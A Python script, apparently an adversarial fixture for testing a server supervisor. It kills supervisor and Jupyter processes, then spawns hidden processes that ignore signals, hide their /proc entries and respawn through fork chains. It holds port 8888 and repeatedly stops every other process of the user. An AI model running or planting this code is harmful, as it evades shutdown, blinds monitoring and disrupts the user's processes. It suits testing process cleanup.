"""The user ends the server's keeper, and leaves processes that a search by folder, by signal or by parent does not find.

One says that its memory must not be seen, so that its folder in /proc is root's; one ignores every signal that can be ignored;
one lives on in a child of its own every few milliseconds. Who is left holds the port and stops every other process of the user.
"""

from __future__ import annotations

import contextlib
import ctypes
import os
import signal
import socket
import time

PORT = 8888
PR_SET_DUMPABLE = 4


def deaf() -> None:
    for number in range(1, signal.NSIG):
        with contextlib.suppress(OSError, ValueError):
            signal.signal(number, signal.SIG_IGN)


def unseen() -> None:
    ctypes.CDLL(None).prctl(PR_SET_DUMPABLE, 0, 0, 0, 0)


def away() -> bool:
    """In a process of its own, of which nobody is the parent."""
    if os.fork():
        return False
    os.setsid()
    if os.fork():
        os._exit(0)
    return True


def chain() -> None:
    while not os.fork():
        time.sleep(0.005)
    os._exit(0)


def others() -> list[tuple[int, bytes]]:
    """The other processes of this user, without these here and the engine's way into the container: stopped, it would hang
    every `ps` of the computer."""
    found = []
    for name in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError):
            with open(f"/proc/{name}/cmdline", "rb") as file:
                line = file.read()
            if os.stat(f"/proc/{name}").st_uid == os.getuid() and not (b"hide.py" in line or b"runc" in line):
                found.append((int(name), line))
    return found


def main() -> None:
    for _ in range(20):
        for pid, line in others():
            if b"supervise" in line or b"jupyter" in line:
                os.kill(pid, signal.SIGKILL)
        time.sleep(0.05)
    for way in (deaf, unseen, chain):
        if away():
            way()
            time.sleep(3600)
    with socket.socket() as listener:
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        with contextlib.suppress(OSError):  # systemd's restart was quicker
            listener.bind(("127.0.0.1", PORT))
            listener.listen(100)
        print("ready", flush=True)
        while True:
            for pid, _line in others():
                with contextlib.suppress(OSError):
                    os.kill(pid, signal.SIGSTOP)
            time.sleep(0.002)


if __name__ == "__main__":
    main()
